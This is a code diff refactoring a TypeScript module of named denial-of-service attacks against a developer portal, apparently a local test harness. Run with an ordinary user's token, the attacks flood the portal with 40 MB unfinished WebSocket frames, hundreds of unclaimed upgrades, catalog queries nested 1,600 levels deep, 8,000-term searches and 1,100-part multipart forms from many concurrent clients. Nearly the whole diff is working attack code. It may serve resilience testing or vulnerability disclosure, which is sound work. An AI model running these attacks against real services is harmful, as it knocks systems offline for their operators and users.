@@ -1,10 +1,10 @@
 import { once, setMaxListeners } from 'node:events';
 import { connect, type Socket } from 'node:net';
 import { setTimeout as sleep } from 'node:timers/promises';
-import { Agent, request, type Dispatcher } from 'undici';
+import { Agent, request } from 'undici';
 
 /** The portal that is attacked. */
-export interface Target {
+interface Target {
   /** For example `http://127.0.0.1:40123`. */
   readonly origin: string;
   /** A token of the portal, of a user without special permissions. */
@@ -21,15 +21,13 @@ export type AttackOptions = Omit<Target, 'signal'> & { readonly name: string };
 
 type Attack = (target: Target, count: (response: string) => void) => unknown;
 
-const CONNECTIONS = { frames: 12, upgrades: 200, catalog: 4, directory: 10 };
 /** Sent in each unfinished WebSocket frame, in bytes. */
 const FRAME_BYTES = 40 * 2 ** 20;
 /** Pause of a client whose connection was closed, in milliseconds. */
 const PAUSE_MS = 250;
-const NESTING = 1600;
-const GROUPS = 8000;
-const PARTS = 1100;
 const ONCE = { once: true } as const;
+
+const dispatcher = new Agent({ connections: null, headersTimeout: 0 });
 
 /** Attacks by name; they last until the signal of the target. */
 export const attacks: Readonly<Record<string, Attack>> = {
@@ -37,63 +35,52 @@ export const attacks: Readonly<Record<string, Attack>> = {
 
   'WebSocket frames of 40 MB': async (target, count) => {
     await upgradeOnce(target);
-    await forEachConnection(CONNECTIONS.frames, target, async () => {
+    await repeat(12, target, async () => {
       const socket = await upgrade(target, '/api/signals', count);
       await sendFrame(socket);
       await untilClosed(socket, target.signal);
     });
   },
 
-  'deep catalog query': (target, count) => {
-    const body = JSON.stringify({ query: nestedQuery() });
-    return forEachConnection(CONNECTIONS.catalog, target, () =>
-      post(target, count, { path: '/api/catalog/entities/by-query', body }),
-    );
-  },
+  'deep catalog query': (target, count) =>
+    repeatRequest(4, target, count, {
+      path: '/api/catalog/entities/by-query',
+      body: JSON.stringify({ query: nestedQuery() }),
+    }),
 
   'deep catalog cursor': (target, count) => {
-    const cursor = {
+    const cursor = JSON.stringify({
       orderFields: [],
       orderFieldValues: [],
       isPrevious: false,
       query: nestedQuery(),
-    };
-    const body = JSON.stringify({
-      cursor: Buffer.from(JSON.stringify(cursor)).toString('base64'),
     });
-    return forEachConnection(CONNECTIONS.catalog, target, () =>
-      post(target, count, { path: '/api/catalog/entities/by-query', body }),
-    );
+    return repeatRequest(4, target, count, {
+      path: '/api/catalog/entities/by-query',
+      body: JSON.stringify({ cursor: Buffer.from(cursor).toString('base64') }),
+    });
   },
 
   '8,000 search terms': (target, count) => {
-    const terms = Array.from({ length: GROUPS }, (_, at) => `group=g${at}`);
-    return forEachConnection(CONNECTIONS.directory, target, () =>
-      send(target, count, {
-        method: 'GET',
-        path: `/api/directory/v1/search/users/?${terms.join('&')}`,
-      }),
-    );
+    const terms = Array.from({ length: 8000 }, (_, at) => `group=g${at}`);
+    return repeatRequest(10, target, count, {
+      path: `/api/directory/v1/search/users/?${terms.join('&')}`,
+    });
   },
 
   'forms of 1,100 parts': (target, count) => {
-    // Short enough for the API's limit of 64 KiB.
-    const parts = Array.from(
-      { length: PARTS },
-      () => '--b\r\nContent-Disposition: form-data; name=p\r\n\r\n\r\n',
-    );
-    return forEachConnection(CONNECTIONS.directory, target, () =>
-      post(target, count, {
-        path: '/api/directory/v1/certs/',
-        body: `${parts.join('')}--b--\r\n`,
-        type: 'multipart/form-data; boundary=b',
-      }),
-    );
+    const part = '--b\r\nContent-Disposition: form-data; name=p\r\n\r\n\r\n';
+    return repeatRequest(10, target, count, {
+      path: '/api/directory/v1/certs/',
+      // Shorter than the API's limit of 64 KiB.
+      body: `${part.repeat(1100)}--b--\r\n`,
+      type: 'multipart/form-data; boundary=b',
+    });
   },
 
   '200 unclaimed upgrades': async (target, count) => {
     await upgradeOnce(target);
-    await forEachConnection(CONNECTIONS.upgrades, target, async () => {
+    await repeat(200, target, async () => {
       const socket = await upgrade(target, '/api/none', count);
       await untilClosed(socket, target.signal);
     });
@@ -101,8 +88,8 @@ export const attacks: Readonly<Record<string, Attack>> = {
 };
 
 /** Runs several clients, each repeatedly until the signal. */
-async function forEachConnection(
-  connections: number,
+async function repeat(
+  clients: number,
   { signal }: Target,
   run: () => Promise<unknown>,
 ): Promise<void> {
@@ -111,56 +98,46 @@ async function forEachConnection(
       await run();
     }
   };
-  await Promise.all(Array.from({ length: connections }, client));
+  await Promise.all(Array.from({ length: clients }, client));
+}
+
+/** Sends a request from several clients: a POST if it has a body. */
+function repeatRequest(
+  clients: number,
+  target: Target,
+  count: (response: string) => void,
+  options: { readonly path: string; body?: string; type?: string },
+): Promise<void> {
+  const { origin, token, signal } = target;
+  const { path, body, type = 'application/json' } = options;
+  return repeat(clients, target, async () => {
+    try {
+      const response = await request(`${origin}${path}`, {
+        method: body === undefined ? 'GET' : 'POST',
+        headers: {
+          authorization: `Bearer ${token}`,
+          ...(body !== undefined && { 'content-type': type }),
+        },
+        body,
+        signal,
+        dispatcher,
+      });
+      await response.body.dump();
+      count(`${response.statusCode}`);
+    } catch (error) {
+      const { code = 'failed' } = error as { code?: string };
+      count(signal.aborted ? 'no response' : code);
+      await sleep(PAUSE_MS);
+    }
+  });
 }
 
 function nestedQuery(): object {
   let query: object = { kind: 'user' };
-  for (let level = 1; level < NESTING; level += 1) {
+  for (let level = 1; level < 1600; level += 1) {
     query = { $not: query };
   }
   return query;
-}
-
-function post(
-  target: Target,
-  count: (response: string) => void,
-  options: { path: string; body: string; type?: string },
-): Promise<void> {
-  const { path, body, type = 'application/json' } = options;
-  const headers = { 'content-type': type };
-  return send(target, count, { method: 'POST', path, headers, body });
-}
-
-const dispatcher = new Agent({ connections: null, headersTimeout: 0 });
-
-async function send(
-  { origin, token, signal }: Target,
-  count: (response: string) => void,
-  options: Pick<Dispatcher.RequestOptions, 'method' | 'path' | 'body'> & {
-    readonly headers?: Record<string, string>;
-  },
-): Promise<void> {
-  const { path, method, headers, body } = options;
-  try {
-    const response = await request(`${origin}${path}`, {
-      method,
-      headers: { ...headers, authorization: `Bearer ${token}` },
-      body,
-      signal,
-      dispatcher,
-    });
-    await response.body.dump();
-    count(`${response.statusCode}`);
-  } catch (error) {
-    if (signal.aborted) {
-      count('no response');
-    } else {
-      const { code = 'failed' } = error as { code?: string };
-      count(code);
-      await sleep(PAUSE_MS);
-    }
-  }
 }
 
 /**
